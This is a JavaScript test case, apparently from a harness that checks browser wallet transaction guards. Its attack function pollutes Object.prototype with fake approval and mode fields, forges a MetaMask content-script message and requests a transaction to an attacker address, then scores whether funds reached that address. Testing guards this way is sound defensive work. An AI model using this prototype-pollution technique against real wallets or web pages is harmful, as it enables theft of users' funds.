// T4: Object.prototype supplies descriptors, options and answers that a guard did not ask for.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'T4',
  title: 'Object.prototype polluted',
  source: 'guards that call the page\'s own intrinsics',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const post = window.postMessage.bind(window);
    const request = window.ethereum.request.bind(window.ethereum);
    const call = (to) => ({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 6000, ...call(a.EVIL) } } };
    const undo = [];
    const poison = (holder, key, make) => {
      try {
        const descriptor = Object.getOwnPropertyDescriptor(holder, key);
        const field = descriptor.get ? 'get' : 'value';
        Object.defineProperty(holder, key, { ...descriptor, [field]: make(descriptor[field]) });
        undo.push([holder, key, descriptor]);
      } catch {
        // Pinned, or not in this engine.
      }
    };
    const { apply, defineProperty } = Reflect;
    // An approval comes first: what it leaves behind must not help.
    await request(call(a.GOOD)).catch(() => {});
    const extra = { value: 0, get: undefined, approved: true, violations: [], findings: [], disposition: 'report', mode: 'report', method: 'eth_chainId', surface: 'none', length: 0 };
    for (const key of Object.keys(extra)) {
      if (key === 'get') continue;
      defineProperty(Object.prototype, key, { value: extra[key], writable: true, configurable: true, enumerable: false });
      undo.push([Object.prototype, key, { value: undefined, configurable: true }]);
    }
    const asked = [];
    try {
      post(message, '*');
    } catch {
      // Refused.
    }
    try {
      asked[0] = request(call(a.EVIL));
    } catch {
      // Refused.
    }
    const settled = asked[0] ? asked[0].then((value) => value, (error) => error?.code) : undefined;
    await new Promise((resolve) => setTimeout(resolve, 100));
    for (let index = undo.length - 1; index >= 0; index -= 1) defineProperty(undo[index][0], undo[index][1], undo[index][2]);
    for (const key of Object.keys(extra)) delete Object.prototype[key];
    return settled;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
